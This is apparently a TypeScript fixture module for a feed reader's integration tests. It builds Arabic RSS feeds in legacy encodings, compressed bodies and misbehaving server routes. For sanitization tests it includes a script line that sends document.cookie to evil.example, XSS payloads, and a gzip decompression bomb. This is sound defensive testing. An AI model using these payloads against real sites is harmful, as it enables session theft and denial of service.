/**
 * Byte-exact feeds for the feed matrix (test/integration/feed-matrix.test.ts): Arabic text in the
 * legacy code pages (encoded here from tables written from the code pages, never by asking the
 * decoder under test), BOMs, compressed bodies, hostile bodies, and the routes that misbehave.
 */
import { readFileSync } from 'node:fs'
import type { IncomingMessage } from 'node:http'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { workshopArticle } from './feeds'
import type { Route } from './local-server'

// ── Code pages ──────────────────────────────────────────────────────────────────────────────

/** windows-1256, bytes 0x80–0xFF (Microsoft's cp1256 table; bytes below 0x80 are ASCII). */
// prettier-ignore
const CP1256_HIGH = [
  0x20ac, 0x067e, 0x201a, 0x0192, 0x201e, 0x2026, 0x2020, 0x2021, 0x02c6, 0x2030, 0x0679, 0x2039, 0x0152, 0x0686, 0x0698, 0x0688,
  0x06af, 0x2018, 0x2019, 0x201c, 0x201d, 0x2022, 0x2013, 0x2014, 0x06a9, 0x2122, 0x0691, 0x203a, 0x0153, 0x200c, 0x200d, 0x06ba,
  0x00a0, 0x060c, 0x00a2, 0x00a3, 0x00a4, 0x00a5, 0x00a6, 0x00a7, 0x00a8, 0x00a9, 0x06be, 0x00ab, 0x00ac, 0x00ad, 0x00ae, 0x00af,
  0x00b0, 0x00b1, 0x00b2, 0x00b3, 0x00b4, 0x00b5, 0x00b6, 0x00b7, 0x00b8, 0x00b9, 0x061b, 0x00bb, 0x00bc, 0x00bd, 0x00be, 0x061f,
  0x06c1, 0x0621, 0x0622, 0x0623, 0x0624, 0x0625, 0x0626, 0x0627, 0x0628, 0x0629, 0x062a, 0x062b, 0x062c, 0x062d, 0x062e, 0x062f,
  0x0630, 0x0631, 0x0632, 0x0633, 0x0634, 0x0635, 0x0636, 0x00d7, 0x0637, 0x0638, 0x0639, 0x063a, 0x0640, 0x0641, 0x0642, 0x0643,
  0x00e0, 0x0644, 0x00e2, 0x0645, 0x0646, 0x0647, 0x0648, 0x00e7, 0x00e8, 0x00e9, 0x00ea, 0x00eb, 0x0649, 0x064a, 0x00ee, 0x00ef,
  0x064b, 0x064c, 0x064d, 0x064e, 0x00f4, 0x064f, 0x0650, 0x00f7, 0x0651, 0x00f9, 0x0652, 0x00fb, 0x00fc, 0x200e, 0x200f, 0x06d2,
]

/** ISO-8859-6 (ECMA-114): C1 controls, a few signs, the letters ء..غ at 0xC1 and ـ..ْ at 0xE0; the rest unassigned. */
const ISO_8859_6_HIGH: Array<[byte: number, codePoint: number]> = [
  ...Array.from({ length: 0x20 }, (_, i): [number, number] => [0x80 + i, 0x80 + i]),
  [0xa0, 0x00a0], [0xa4, 0x00a4], [0xac, 0x060c], [0xad, 0x00ad], [0xbb, 0x061b], [0xbf, 0x061f],
  ...Array.from({ length: 0xda - 0xc1 + 1 }, (_, i): [number, number] => [0xc1 + i, 0x0621 + i]),
  ...Array.from({ length: 0xf2 - 0xe0 + 1 }, (_, i): [number, number] => [0xe0 + i, 0x0640 + i]),
]

function encoder(name: string, high: ReadonlyArray<[number, number]>): (text: string) => Buffer {
  const byCodePoint = new Map(high.map(([byte, cp]) => [cp, byte]))
  return (text) =>
    Buffer.from(
      [...text].map((ch) => {
        const cp = ch.codePointAt(0) as number
        const byte = cp < 0x80 ? cp : byCodePoint.get(cp)
        if (byte === undefined) throw new Error(`U+${cp.toString(16).toUpperCase().padStart(4, '0')} has no byte in ${name}`)
        return byte
      }),
    )
}

export const windows1256 = encoder('windows-1256', CP1256_HIGH.map((cp, i) => [0x80 + i, cp]))
export const iso88596 = encoder('ISO-8859-6', ISO_8859_6_HIGH)
export const utf16leWithBom = (text: string): Buffer => Buffer.from('\uFEFF' + text, 'utf16le')
export const utf8WithBom = (text: string): Buffer => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])

// ── Stories and feeds ───────────────────────────────────────────────────────────────────────

/** The workshop article's six paragraphs (without the site's tail). 0–1 have “curly quotes”, 2–5 fit ISO-8859-6. */
export const WORKSHOP = (() => {
  const { title, paragraphs } = workshopArticle()
  // The stories below use P[0]..P[5]: fail here, by name, rather than on an undefined paragraph.
  if (paragraphs.length < 6) throw new Error(`the workshop article has ${paragraphs.length} paragraphs, the feed matrix needs 6`)
  return { title, paragraphs: paragraphs.slice(0, 6) }
})()

export interface Story {
  readonly guid: string
  readonly title: string
  readonly paragraphs: readonly string[]
  readonly link: string
  readonly pubDate?: string
  /** The description's HTML, when it is not just the paragraphs. */
  readonly html?: string
}

/** What must end up stored: the exact title and every paragraph inside the plain body. */
export interface Expected {
  readonly title: string
  readonly paragraphs: readonly string[]
}

export const story = (key: string, title: string, paragraphs: readonly string[], extra: Partial<Story> = {}): Story => ({
  guid: `${key}-1`,
  title,
  paragraphs,
  link: `https://news.example/${key}/1`,
  pubDate: 'Sat, 14 Feb 2015 09:30:00 GMT',
  ...extra,
})

const escapeXml = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
export const UTF8_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'

/** RSS 2.0 text; `declaration` is the XML declaration to put first ('' for none). */
export function rss(channel: string, stories: readonly Story[], declaration = UTF8_DECLARATION): string {
  const items = stories.map(
    (s) => `
    <item>
      <title>${escapeXml(s.title)}</title>
      <link>${escapeXml(s.link)}</link>
      <guid isPermaLink="false">${escapeXml(s.guid)}</guid>${s.pubDate ? `\n      <pubDate>${s.pubDate}</pubDate>` : ''}
      <description><![CDATA[${s.html ?? s.paragraphs.map((p) => `<p>${p}</p>`).join('\n')}]]></description>
    </item>`,
  )
  return `${declaration}${declaration ? '\n' : ''}<rss version="2.0">
  <channel>
    <title>${escapeXml(channel)}</title>
    <link>https://news.example/</link>
    <language>ar</language>${items.join('')}
  </channel>
</rss>
`
}

export const fixtureFeed = (file: string): Buffer => readFileSync(new URL(`../fixtures/feeds/${file}`, import.meta.url))

/** The expected stories of the hand-written fixture files in test/fixtures/feeds. */
export const FILE_STORIES = {
  atom: [
    { title: 'الجيش يداهم مخيما بحثا عن مطلوبين في عرسال', paragraphs: ['نفذت وحدات من الجيش عملية دهم فجر اليوم بحثا عن مطلوبين بمذكرات توقيف.'] },
    { title: 'مجهولون يطلقون النار على حاجز أمني في صيدا', paragraphs: ['لم يسفر اطلاق النار عن اصابات وفتحت الاجهزة المختصة تحقيقا في الحادث.'] },
    { title: 'تشديد الإجراءات الأمنية حول السفارات في بيروت', paragraphs: ['عززت القوى الامنية انتشارها في محيط البعثات الدبلوماسية تحسبا لأي طارئ.'] },
  ],
  rdf: [
    { title: 'الأمن الوقائي يضبط مستودعا للمتفجرات', paragraphs: ['عثرت دورية على كميات من المواد المتفجرة داخل مستودع مهجور عند اطراف البلدة.'] },
    { title: 'تبادل معلومات أمنية بين بيروت وباريس', paragraphs: ['اتفق الجانبان على آلية لتبادل المعلومات حول المقاتلين الاجانب العائدين.'] },
  ],
  months: [
    { title: 'مؤتمر إقليمي حول أمن الحدود ينطلق في عمان', paragraphs: ['يشارك في المؤتمر ممثلون عن اجهزة امنية من دول الجوار لبحث ضبط الحدود.'] },
    { title: 'الإفراج عن عسكريين مخطوفين بعد مفاوضات شاقة', paragraphs: ['وصل العسكريون المحررون الى بيروت مساء وسط اجراءات امنية مشددة.'] },
  ],
  entityBomb: [{ title: 'خبر من موقع مفخخ لا يجوز أن يخزن', paragraphs: [] }],
} satisfies Record<string, Expected[]>

/** A description a hostile or careless CMS sends: script, an onerror image, a javascript: link. */
export const HOSTILE_HTML = [
  `<p>${WORKSHOP.paragraphs[3]}</p>`,
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="x.jpg" onerror="alert(\'xss\')">',
  `<p>${WORKSHOP.paragraphs[4]} <a href="javascript:alert('link')">التفاصيل</a></p>`,
].join('')

/** Invalid XML 1.0 characters inside a title, and the title once they are stripped. */
export const CONTROL_TITLE = { raw: 'اعتقال\u0001 خلية\u000B نائمة في طرابلس', clean: 'اعتقال خلية نائمة في طرابلس' }

/** An RSS feed just over `minBytes`, of valid items: only the size is wrong with it. */
export function oversizedFeed(minBytes: number): string {
  const stories: Story[] = []
  while (Buffer.byteLength(rss('موقع ثرثار', stories)) <= minBytes) {
    stories.push(story(`huge-${stories.length}`, `خبر حشو رقم ${stories.length}`, [WORKSHOP.paragraphs[1]], { guid: `huge-${stories.length}` }))
  }
  return rss('موقع ثرثار', stories)
}

/** ~50 MB of zeros in ~50 KB of gzip: only a cap checked after decompression stops it. */
export const gzipBomb = (): Buffer => gzipSync(Buffer.alloc(50 * 1024 * 1024))
export const gzip = (text: string): Buffer => gzipSync(Buffer.from(text, 'utf8'))
export const brotli = (text: string): Buffer => brotliCompressSync(Buffer.from(text, 'utf8'))

const P = WORKSHOP.paragraphs
/** One story per feed of the matrix (distinct titles, so no two are the same story by accident). */
export const STORIES = {
  cp1256Xml: story('cp1256-xml', WORKSHOP.title, [P[0], P[1]]),
  cp1256Bare: story('cp1256-bare', 'مديرية المخابرات تحبط مخططا لاستهداف مراكز عسكرية في الجنوب', [P[2]]),
  isoHeader: story('iso-header', 'القضاء العسكري يصدر أحكاما بحق موقوفين بتهم ارهابية', [P[3]]),
  isoXml: story('iso-xml', 'اجتماع أمني موسع في السراي لبحث ضبط الحدود الشرقية', [P[5]]),
  utf16: story('utf16', 'تعاون استخباراتي بين لبنان والأردن لتعقب المقاتلين الأجانب', [P[4]]),
  utf8Bom: story('utf8-bom', 'دورة تدريبية لضباط الشرطة حول مكافحة تمويل الإرهاب', [P[1]]),
  gzip: story('gzip', 'الأمن العام يوقف شبكة لتهريب السلاح عند الحدود الشمالية', [P[2]]),
  br: story('br', 'وزير الداخلية يترأس اجتماعا لمجلس الأمن المركزي', [P[3]]),
  etag: story('etag', 'إحالة خلية متطرفة إلى المحكمة العسكرية الدائمة', [P[4]]),
  lastmod: story('lastmod', 'شعبة المعلومات تكشف هوية منفذي التفجير', [P[5]]),
  moved: story('moved', 'الاتحاد الأوروبي يمول برنامجا لتعزيز أمن المطارات', [P[0]]),
  temp: story('temp', 'توقيف مشتبه به بالتواصل مع تنظيم داعش في البقاع', [P[1]]),
  control: story('control', CONTROL_TITLE.raw, [P[2]]),
  html: story('html', 'تقرير: كيف تجند الجماعات المتطرفة الشباب عبر الإنترنت', [P[3], P[4]], { html: HOSTILE_HTML }),
  dup: story('dup', 'خطة أمنية جديدة لضبط الوضع في الضاحية الجنوبية', [P[5]], { link: 'https://news.example/2015/02/plan?utm_source=rss&utm_medium=feed' }),
  mislabeled1: story('mislabeled', 'انفجار عبوة ناسفة على طريق المطار دون إصابات', [P[0]]),
  mislabeled2: story('mislabeled', 'الأجهزة الأمنية تعتقل مشتبها بهم في قضية التفجير', [P[1]], { guid: 'mislabeled-2', link: 'https://news.example/mislabeled/2' }),
  probes: ['نشرة أمنية صباحية', 'نشرة أمنية مسائية', 'موجز أخبار الحدود', 'موجز أخبار المطار'].map((t, i) => story(`probe-${i}`, t, [P[i]])),
}

// ── Routes that misbehave ───────────────────────────────────────────────────────────────────

export const redirect = (status: number, to: string): Route => (_req, res) => void res.writeHead(status, { Location: to }).end()

/** Answers 304 when the request carries the validator it handed out, the feed otherwise. */
export function conditional(validator: { etag: string } | { lastModified: string }, body: string): Route {
  return (req, res) => {
    const fresh = 'etag' in validator ? req.headers['if-none-match'] === validator.etag : req.headers['if-modified-since'] === validator.lastModified
    const header = 'etag' in validator ? { ETag: validator.etag } : { 'Last-Modified': validator.lastModified }
    if (fresh) return void res.writeHead(304, header).end()
    res.writeHead(200, { 'Content-Type': 'application/rss+xml; charset=utf-8', ...header }).end(body)
  }
}

/** Sends headers at once, then one byte every 100 ms, forever; `onClose` when the client hangs up. */
export function trickle(onClose: () => void): Route {
  return (_req, res) => {
    res.writeHead(200, { 'Content-Type': 'application/rss+xml; charset=utf-8' })
    res.write('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>')
    const timer = setInterval(() => res.write('.'), 100)
    res.on('close', () => {
      clearInterval(timer)
      onClose()
    })
  }
}

/** How long a probe request was held, on a clock the test chooses (the server's request count). */
export interface ProbeSpan {
  readonly host: string
  /** The clock when the request arrived and when it was answered. */
  readonly start: number
  readonly end: number
  /** Answered because a probe of another host was held at the same moment; false: answered alone. */
  readonly together: boolean
}

/**
 * Probes that answer only together. Each request is held until a probe request from another
 * host is held too; then every held probe is answered. So when the poller runs two hosts in
 * parallel, their probes are in flight at the same moment by construction, however slow the
 * machine; when it polls them one after another, the partner never comes, and the probe is
 * answered alone (together: false) when its client gives up or, failing that, after `safetyMs`.
 */
export function probesHeldTogether(options: { clock: () => number; safetyMs: number; onSpan: (span: ProbeSpan) => void }): (body: string) => Route {
  const holding = new Set<{ readonly host: string; release(together: boolean): void }>()
  return (body) => (req, res) => {
    const host = hostOf(req)
    const start = options.clock()
    let answered = false
    const probe = {
      host,
      release(together: boolean): void {
        if (answered) return
        answered = true
        clearTimeout(safety)
        holding.delete(probe)
        options.onSpan({ host, start, end: options.clock(), together })
        if (!res.destroyed) res.writeHead(200, { 'Content-Type': 'application/rss+xml' }).end(body)
      },
    }
    const safety = setTimeout(() => probe.release(false), options.safetyMs)
    // The client hung up first (its timeout): the probe was alone all along.
    res.on('close', () => probe.release(false))
    const partnerHeld = [...holding].some((other) => other.host !== host)
    holding.add(probe)
    if (partnerHeld) for (const held of [...holding]) held.release(true)
  }
}

export const hostOf = (req: IncomingMessage): string => new URL(`http://${req.headers.host ?? 'unknown'}`).hostname
